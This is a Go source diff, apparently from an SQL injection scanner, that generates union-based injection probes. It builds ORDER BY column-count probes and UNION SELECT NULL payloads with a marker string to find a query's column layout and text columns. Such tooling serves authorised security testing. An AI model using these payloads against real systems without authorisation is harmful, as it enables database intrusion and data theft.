@@ -0,0 +1,69 @@
+package modules
+
+import (
+	"fmt"
+	"strings"
+)
+
+// defaultMaxColumns is the widest query probed when --max-columns is not given
+const defaultMaxColumns = 10
+
+// maxColumns returns the number of columns union probes go up to
+func (o Options) maxColumns() int {
+	if o.MaxColumns < 1 {
+		return defaultMaxColumns
+	}
+	return o.MaxColumns
+}
+
+// unionProbes returns the ordered probe sequence for working out a query's column layout:
+// ORDER BY 1..N finds the column count, UNION SELECT NULL with 1..N columns confirms it,
+// and a string marker moved through every position of every width finds the text columns
+func unionProbes(maxColumns int) []SQLiPayload {
+	var probes []SQLiPayload
+	for n := 1; n <= maxColumns; n++ {
+		probes = append(probes, SQLiPayload{
+			Type:     "Union probe",
+			Category: "Column count",
+			Form:     sqlFormUnion,
+			Payload:  fmt.Sprintf("ORDER BY %d", n),
+			Columns:  n,
+		})
+	}
+
+	for n := 1; n <= maxColumns; n++ {
+		probes = append(probes, SQLiPayload{
+			Type:     "Union probe",
+			Category: "Column count",
+			Form:     sqlFormUnion,
+			Payload:  unionSelect(n, 0),
+			Columns:  n,
+		})
+	}
+
+	for n := 1; n <= maxColumns; n++ {
+		for col := 1; col <= n; col++ {
+			probes = append(probes, SQLiPayload{
+				Type:     "Union probe",
+				Category: "Column type",
+				Form:     sqlFormUnion,
+				Payload:  unionSelect(n, col),
+				Columns:  n,
+				Column:   col,
+			})
+		}
+	}
+	return probes
+}
+
+// unionSelect builds a UNION SELECT of n NULL columns, with the marker string in column marker (1-based, 0 for none)
+func unionSelect(n, marker int) string {
+	cols := make([]string, n)
+	for i := range cols {
+		cols[i] = "NULL"
+	}
+	if marker > 0 {
+		cols[marker-1] = "'{{marker}}'"
+	}
+	return "UNION SELECT " + strings.Join(cols, ",") + "{{from_dual}}"
+}